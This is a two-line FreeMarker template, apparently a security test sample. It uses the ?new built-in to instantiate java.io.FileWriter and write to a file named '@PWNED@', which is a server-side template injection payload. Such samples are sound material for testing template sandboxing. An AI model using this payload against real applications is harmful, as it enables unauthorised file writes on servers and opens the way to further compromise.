<#-- Writes a file by constructing a java.io class with ?new. -->
<#assign w = "java.io.FileWriter"?new("@PWNED@")>${w.write("x")}
